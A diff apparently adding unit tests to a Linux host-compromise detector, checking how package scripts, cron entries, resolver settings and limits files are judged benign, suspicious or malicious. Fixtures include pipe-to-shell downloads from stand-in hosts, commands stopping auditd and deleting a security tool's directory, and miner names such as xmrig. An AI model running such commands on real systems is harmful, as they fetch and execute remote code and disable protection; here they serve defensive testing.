@@ -87,6 +87,32 @@ describe('what is run', () => {
     expect(first(scriptFact(`${own}${stops}`))).toBe('suspicious: stops-protection');
   });
 
+  test('a package stops its own service, and that of another is suspicious', () => {
+    const script = (name: string, lines: string): Fact =>
+      scriptFact(lines, { at: `/var/lib/dpkg/info/${name}`, mechanism: 'dpkg-script' });
+    const units = [
+      ownedBy('/usr/lib/systemd/system/auditd.service', 'auditd'),
+      ownedBy('/etc/init.d/clamav-daemon', 'clamav-daemon'),
+      ownedBy('/usr/bin/freshclam', 'clamav-freshclam'),
+    ];
+    const stops = 'systemctl stop auditd.service\n';
+    expect(first(script('auditd.prerm', stops), ...units)).toBe('benign: ');
+    expect(first(script('auditd:amd64.prerm', stops), ...units)).toBe('benign: ');
+    expect(first(script('clamav-daemon.postrm', 'service clamav-daemon stop\n'), ...units)).toBe('benign: ');
+    expect(first(script('nettools.postinst', stops), ...units)).toBe('suspicious: stops-protection');
+    // What is not known to be its own is none.
+    expect(first(script('auditd.prerm', stops))).toBe('suspicious: stops-protection');
+    const [entry] = judgeEntries(
+      factSet(script('auditd.postinst', `${stops}rm -rf /usr/local/aegis\n`), ...units),
+      judgeContext(),
+    );
+    expect(entry?.reasons.map(({ id, params }) => [id, params])).toEqual([
+      ['stops-protection', { what: text('/usr/local/aegis') }],
+    ]);
+    const init = scriptFact(stops, { at: '/etc/init.d/auditd', mechanism: 'init-script' });
+    expect(first(init, ownedBy('/etc/init.d/auditd', 'auditd'), ...units)).toBe('benign: ');
+  });
+
   test('an entry that would not run is suspicious, a comment is nothing', () => {
     expect(first(entryFact(fetches, { active: false }))).toBe('suspicious: fetch-and-run');
     expect(first(entryFact(fetches, { active: false, text: text(`# ${fetches}`) }))).toBe('benign: ');
@@ -387,6 +413,59 @@ describe('with others', () => {
     const entries = judgeEntries(factSet(entryFact(fetches), other), judgeContext());
     expect(entries[1]?.judgement).toBe('suspicious');
     expect(entries[1]?.reasons.map(({ id }) => id)).toEqual(['same-url']);
+  });
+
+  test('an address that is left open accuses nobody, nor does a well-known host', () => {
+    const joined = (bad: string, other: string): boolean => {
+      const facts = factSet(entryFact(bad), entryFact(other, { at: '/etc/cron.d/other' }));
+      const [attack, honest] = judgeEntries(facts, judgeContext());
+      expect(attack?.judgement).toBe('malicious');
+      return honest?.reasons.some(({ id }) => id === 'same-url') === true;
+    };
+    const honest = (url: string): string => `curl -fsSLo /srv/app/data ${url}`;
+    expect(joined('curl https://x.example/a | sh', honest('https://x.example/a'))).toBe(true);
+    for (const url of [
+      'https://github.com/$P',
+      '"https://$H/a"',
+      `"https://github.com/\${P}/a"`,
+      'https://github.com/',
+    ])
+      expect(joined(`curl ${url} | sh`, honest(url))).toBe(false);
+    expect(joined('curl https://github.com/$P | sh', honest('https://github.com/'))).toBe(false);
+  });
+
+  test('the host of a malicious entry is told where names are resolved; near and public ones are not', () => {
+    const resolves = (address: string, from: string): string => {
+      const at = { at: '/etc/resolv.conf', mechanism: 'resolver', language: 'setting' } as const;
+      const facts = factSet(
+        entryFact(`nameserver ${address}`, at),
+        entryFact(`curl -s http://${from}/a.sh | sh`),
+      );
+      const [entry] = judgeEntries(facts, judgeContext());
+      return `${entry?.judgement}: ${entry?.reasons.map(({ id }) => id).join(', ')}`;
+    };
+    expect(resolves('192.0.2.1', '192.0.2.1:8080')).toBe('suspicious: same-url');
+    expect(resolves('2001:db8::5', '[2001:db8::5]')).toBe('suspicious: same-url');
+    expect(resolves('192.0.2.10', '192.0.2.1')).toBe('benign: ');
+    expect(resolves('8.8.8.8', '8.8.8.8')).toBe('benign: ');
+    expect(resolves('10.0.0.1', '10.0.0.1')).toBe('benign: ');
+  });
+
+  test('another path on the host of a malicious entry is suspicious', () => {
+    const other = entryFact('curl -so /srv/b http://192.0.2.1:81/b', { at: '/etc/cron.d/other' });
+    const entries = judgeEntries(factSet(entryFact(fetches), other), judgeContext());
+    expect(entries[1]?.reasons).toMatchObject([{ id: 'same-url', params: { url: '192.0.2.1' } }]);
+  });
+
+  test('settings that are named like a miner are suspicious, like a family malicious', () => {
+    const limits = (at: string, user: string): string =>
+      first(
+        entryFact('memlock unlimited', { at, mechanism: 'limits', language: 'setting', user: text(user) }),
+      );
+    expect(limits('/etc/security/limits.d/90-a.conf', 'xmrig')).toBe('suspicious: family-mark');
+    expect(limits('/etc/security/limits.d/90-xmrig.conf', 'ada')).toBe('suspicious: family-mark');
+    expect(limits('/etc/security/limits.d/kdevtmpfsi.conf', 'ada')).toBe('malicious: family-mark');
+    expect(limits('/etc/security/limits.d/90-postgres.conf', 'postgres')).toBe('benign: ');
   });
 
   test('the owner’s declared miner is started in peace', () => {
